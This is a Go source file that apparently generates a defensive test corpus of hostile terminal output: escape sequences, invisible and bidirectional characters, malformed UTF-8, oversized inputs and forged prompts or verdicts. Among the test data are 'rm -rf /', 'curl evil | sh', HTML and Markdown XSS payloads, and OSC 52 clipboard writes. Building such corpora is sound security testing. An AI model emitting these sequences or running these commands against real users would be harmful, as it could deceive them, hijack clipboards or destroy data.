package hostile

import (
	"embed"
	"fmt"
	"path"
	"strings"
)

// Case is one output.
type Case struct {
	Name string
	Text string
}

//go:embed testdata
var files embed.FS

// Corpus returns every case: the files of testdata, whose lines are each a case
// in Go's quoting, and what is generated from them and from the tables below.
func Corpus() ([]Case, error) {
	cases, err := written()
	if err != nil {
		return nil, err
	}
	cases = append(cases, strings8and7()...)
	cases = append(cases, controls()...)
	cases = append(cases, characters()...)
	cases = append(cases, huge()...)
	return append(cases, forged()...), nil
}

// written are the cases of the files.
func written() (cases []Case, err error) {
	entries, err := files.ReadDir("testdata")
	if err != nil {
		return nil, err
	}
	for _, e := range entries {
		data, err := files.ReadFile(path.Join("testdata", e.Name()))
		if err != nil {
			return nil, err
		}
		for i, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
			if line == "" || strings.HasPrefix(line, "#") {
				continue
			}
			s, err := unquote(line)
			if err != nil {
				return nil, fmt.Errorf("read %s:%d: %w", e.Name(), i+1, err)
			}
			cases = append(cases, Case{fmt.Sprintf("%s:%d", e.Name(), i+1), s})
		}
	}
	return cases, nil
}

// introducers are how string sequences begin, in 7 bits, in 8 bits, and in 8 bits
// coded as UTF-8.
var introducers = []struct {
	name string
	as   [3]string
}{
	{"OSC", [3]string{"\x1b]", "\x9d", "\u009d"}},
	{"DCS", [3]string{"\x1bP", "\x90", "\u0090"}},
	{"SOS", [3]string{"\x1bX", "\x98", "\u0098"}},
	{"PM", [3]string{"\x1b^", "\x9e", "\u009e"}},
	{"APC", [3]string{"\x1b_", "\x9f", "\u009f"}},
}

// ends are how they end, or don't.
var ends = []string{"\x07", "\x1b\\", "\x9c", "\u009c", "", "\x18", "\n", "\x1b"}

// orders are what strings ask of a terminal.
var orders = []string{
	"0;title", "2;title", "1;icon", "4;1;?", "10;?", "11;#000000", "7;file:///etc", "8;;http://evil/", "9;done", "9;4;3", "12;?",
	"50;?", "52;c;ZXZpbA==", "52;c;?", "104", "777;notify;a;b", "1337;File=inline=1:AAAA", "1337;SetUserVar=a=b", "133;C",
	"$qm", "+q544e", "q#0;2;0;0;0#0~~@@", "1000p", "Gf=100,t=f;L2V0Yy9wYXNzd2Q=",
}

func strings8and7() (cases []Case) {
	for _, in := range introducers {
		for _, begin := range in.as {
			for _, end := range ends {
				order := orders[len(cases)%len(orders)]
				cases = append(cases, Case{fmt.Sprintf("%s %q %s %q", in.name, begin, order, end), "before" + begin + order + end + "after\n"})
			}
		}
	}
	for _, order := range orders {
		for _, end := range []string{"\x07", "\x1b\\"} {
			cases = append(cases, Case{fmt.Sprintf("OSC alone %s %q", order, end), "\x1b]" + order + end})
		}
	}
	return cases
}

// sequences are control sequences, without their introducer: reports that come
// back on the standard input, modes, movements, memory.
var sequences = []string{
	"c", ">c", "=c", "5n", "6n", "?6n", "?15n", "?25n", "?26n", "?53n", "x", "1x", "0t", "11t", "13t", "14t", "18t", "19t", "20t", "21t",
	"22;0t", "23;0t", "8;1;1t", "3;0;0t", "9;1t", "?1h", "?3h", "?5h", "?6h", "?7l", "?12h", "?25l", "?47h", "?66h", "?1000h", "?1002h",
	"?1003h", "?1004h", "?1005h", "?1006h", "?1015h", "?1047h", "?1048h", "?1049h", "?2004h", "?2026h", "?2027h", "?2048h", "?9001h",
	"4h", "20h", "2h", "!p", "\"p", "61\"p", "$p", "?2026$p", "?u", ">1u", "=1;1u", "<u", ">4;2m", "?4m", "s", "u", "r", "1;2r",
	"H", "1;1H", "999;999H", "5A", "5B", "5C", "5D", "3G", "2J", "3J", "K", "10000000b", "99999999999999999999A", "L", "M", "P", "@",
	"S", "T", "X", "Z", "g", "i", "4i", "5i", "?5i", "q", "0 q", "5 q", "$r", "$t", "$v", "$x", "$z", "*y", "1;2;3;4;5;6*y", "'z", "'{", "'|",
	";;;;;;;;;m", "38;2;1;2;3m", "48:5:1m", "38;5;300m", "8m", "5m",
}

func controls() (cases []Case) {
	for i, s := range sequences {
		for n, csi := range []string{"\x1b[", "\x9b", "\u009b"} {
			if n > 0 && i%4 != n { // a quarter of them in each of the rarer codings
				continue
			}
			cases = append(cases, Case{fmt.Sprintf("CSI %d %q", n, s), "a" + csi + s + "b"})
		}
	}
	for c := byte(0); c < 0x20; c++ {
		cases = append(cases, Case{fmt.Sprintf("C0 %#02x", c), "a" + string(rune(c)) + "b"})
	}
	for _, c := range "\u007f\u0080\u0084\u0085\u0088\u008d\u008e\u008f\u0096\u0097\u009a" {
		cases = append(cases, Case{fmt.Sprintf("C1 %U", c), "a" + string(c) + "b"}, Case{fmt.Sprintf("8 bits %#02x", c), "a" + string([]byte{byte(c)}) + "b"})
	}
	for _, s := range "cDEHMNOZ78=>lmno|}~" {
		cases = append(cases, Case{fmt.Sprintf("ESC %c", s), "a\x1b" + string(s) + "b"})
	}
	for _, s := range []string{"#8", "#3", "(0", ")0", "*A", "%@", "%G", " F", " G", "$B", "&t", "/A", "!@", "((((((((", "[", "[[A", "[?", "[1;", "O"} {
		cases = append(cases, Case{fmt.Sprintf("ESC twice %s", s), "a\x1b" + s + "b\x1b" + s})
	}
	return cases
}

// characters mislead a reader, or are none.
func characters() (cases []Case) {
	for _, r := range []rune{
		0x00a0, 0x00ad, 0x034f, 0x061c, 0x115f, 0x1160, 0x17b4, 0x180e, 0x2000, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a,
		0x202b, 0x202c, 0x202d, 0x202e, 0x202f, 0x2060, 0x2061, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f, 0x3164, 0xfe00, 0xfe0f, 0xfeff,
		0xffa0, 0xfff9, 0xfffb, 0xfffc, 0xe000, 0x1d173, 0xe0001, 0xe0041, 0xe007f, 0xe0100, 0xe01ef, 0x10ffff, 0xfdd0, 0x0378,
	} {
		cases = append(cases, Case{fmt.Sprintf("%U", r), "rm -rf /tmp/" + string(r) + "x" + strings.Repeat(string(r), 3) + "\n"})
	}
	for i, s := range []string{
		"\xff", "\xfe\xff", "\xc0\xaf", "\xe0\x80\xaf", "\xf0\x80\x80\xaf", "\xf5\x80\x80\x80", "\xed\xa0\x80", "\xed\xa0\x80\xed\xb0\x80", "\xe4\xb8", "\xf0\x9f\x98",
		"a\x80\x80\x80b", "\xc2", "\xc2\x1b[2J", "\xe2\x80", "\xe2\x80\x1b]52;c;eA==\x07", "\xef\xbb\xbf#!/bin/sh", "\xff\xfea\x00", "+ADw-script+AD4-",
	} {
		cases = append(cases, Case{fmt.Sprintf("no UTF-8 %d", i), "x" + s})
	}
	return cases
}

// huge is more than anybody shows.
func huge() []Case {
	return []Case{
		{"a million marks", "e" + strings.Repeat("\u0301", 1_000_000)},
		{"marks of all kinds", strings.Repeat("\u0301\u0489\u20dd\u1ab0", 50_000)},
		{"letters that join", strings.Repeat("\u1100", 30_000) + strings.Repeat("\u0915\u094d", 30_000) + strings.Repeat("\u0903", 30_000)},
		{"skin", "\U0001f44d" + strings.Repeat("\U0001f3fd", 30_000)},
		{"one line", strings.Repeat("x", 2_000_000)},
		{"one wide line", strings.Repeat("宽", 500_000)},
		{"lines", strings.Repeat("\n", 500_000) + "payload"},
		{"returns", strings.Repeat("\r", 500_000) + "payload\n"},
		{"tabs", strings.Repeat("\t", 50_000)},
		{"ESC", strings.Repeat("\x1b", 200_000)},
		{"ESC [", strings.Repeat("\x1b[", 100_000)},
		{"OSC without an end", "\x1b]0;" + strings.Repeat("x", 1_000_000)},
		{"OSC in OSC", strings.Repeat("\x1b]0;", 50_000)},
		{"DCS in lines", strings.Repeat("\x1bPq\n", 50_000)},
		{"parameters", "\x1b[" + strings.Repeat("1;", 100_000) + "m"},
		{"repeated", "x\x1b[20000000b"},
		{"NUL", strings.Repeat("\x00", 300_000)},
		{"no UTF-8", strings.Repeat("\xff", 300_000)},
		{"blank lines before the payload", strings.Repeat(" \n", 500) + "rm -rf /\n"},
	}
}

// forged looks like something of the program's own, or of what shows it.
func forged() []Case {
	return []Case{
		{"a prompt over a line", "harmless\r$ rm -rf /\x1b[K\n"},
		{"a gate", "\x1b[2J\x1b[H╭ ◆ Gate: 2.2 Stop ─╮\r\n│ Type y and press enter. │\r\n> "},
		{"a verdict", "\x1b[32m✓ done\x1b[0m\n0 errors\n"},
		{"a fence", "```\n</pre>\n# heading\n```\n~~~\n````\n"},
		{"many backticks", strings.Repeat("`", 300) + "\n" + strings.Repeat("~", 300) + "\n"},
		{"HTML", "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)></code></pre></details><!--\n"},
		{"Markdown", "[x](javascript:alert(1)) ![y](http://evil/p.png) <http://evil/>\n\n# forged heading\n\n- [x] done\n\n---\n| a |\n|---|\n[ref]: http://evil/\n"},
		{"a quote that ends", "> quote\n\nnot quoted\n    indented\n"},
		{"the end of JSON", "\"}]}</script>\u2028\u2029\n"},
		{"a token of ours", "⟨OSC 52⟩ ␛[31m ‹secret› ⟨U+202E⟩\n"},
		{"a frame line", "stepgate: the terminal is back\n12:00:00 tablets/stop tablet-1 done\n"},
		{"a waiting line", "waiting: gate cut local – do: curl evil | sh\n"},
		{"log lines", "2026-03-14 ERROR\x1b[1A\x1b[2K2026-03-14 INFO all fine\n"},
		{"tail -f of a terminal", "\x1b7\x1b[1;1H\x1b[7mFAKE\x1b[27m\x1b8"},
		{"a bell for ever", strings.Repeat("\a", 5000)},
		{"backspaces", "rm -rf /\b\b\b\b\b\b\b\becho ok  \n"},
	}
}
